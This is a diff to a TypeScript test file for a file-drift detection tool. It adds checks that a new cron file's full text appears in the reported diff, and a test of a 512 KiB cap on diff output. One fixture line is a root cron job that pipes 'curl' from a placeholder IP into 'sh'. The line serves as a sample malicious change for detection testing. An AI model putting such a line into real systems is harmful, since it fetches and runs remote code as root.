@@ -97,6 +97,24 @@ describe("drift", () => {
     expect(evil.after!.sha256).toBe(
       execFileSync("sha256sum", [join(root, "cron.d/evil")], { encoding: "utf8" }).split(" ")[0],
     );
+    // A new or deleted text file shows its whole text: what the new cron job runs, what the old one did.
+    expect(evil.diff).toContain("--- /dev/null");
+    expect(evil.diff).toContain("+* * * * * root curl -s http://203.0.113.7/x | sh");
+    expect(r.changes.find((c) => c.path.endsWith("/old"))!.diff).toContain("-0 4 * * * root /bin/true");
+  });
+
+  it("keeps one answer's diffs within 512 KiB: past that they are left out, saying so", async () => {
+    await drift({ mode: "baseline", paths: [root] });
+    mkdirSync(join(root, "many"));
+    // 60 files of 60 KiB of text: 3.6 MB of diffs if all were kept.
+    for (let i = 0; i < 60; i++) writeFileSync(join(root, `many/f${i}`), `${"x".repeat(99)}\n`.repeat(600));
+    const r = await drift({ mode: "check" });
+    const diffs = r.changes.filter((c) => c.path.includes("/many/f"));
+    expect(diffs).toHaveLength(60);
+    const total = diffs.reduce((n, c) => n + c.diff.length, 0);
+    expect(total).toBeLessThanOrEqual(512 * 1024 + 60 * 100);
+    expect(diffs[0]!.diff).toContain("[diff cut at 16384 bytes]");
+    expect(diffs.at(-1)!.diff).toBe("[diff left out: this answer's diffs passed 524288 bytes]\n");
   });
 
   it("shows a text file's change as the hunks GNU diff -u gives", async () => {
